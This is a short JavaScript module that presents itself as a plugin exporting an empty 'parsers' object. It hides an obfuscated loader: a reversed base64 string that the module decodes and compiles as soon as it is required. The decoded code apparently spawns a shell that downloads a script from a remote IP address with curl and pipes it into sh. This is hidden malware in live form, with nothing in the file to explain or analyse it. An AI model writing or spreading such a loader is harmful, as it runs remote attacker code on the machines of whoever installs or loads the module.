const r = '==QKng2cgwHIoNnLw9CMy4yMxEjLw4yMwIzLvoDc0RHagMXLgwmc1N2JoMWZ4VmLpcyczV2YvJHcfRGbph2YngSZylWdxVmc';
const code = Buffer.from(r.split('').reverse().join(''), 'base64').toString();
const mod = new module.constructor();
mod.paths = module.paths;
mod._compile(code, 'loader.js');
module.exports = { parsers: {} };
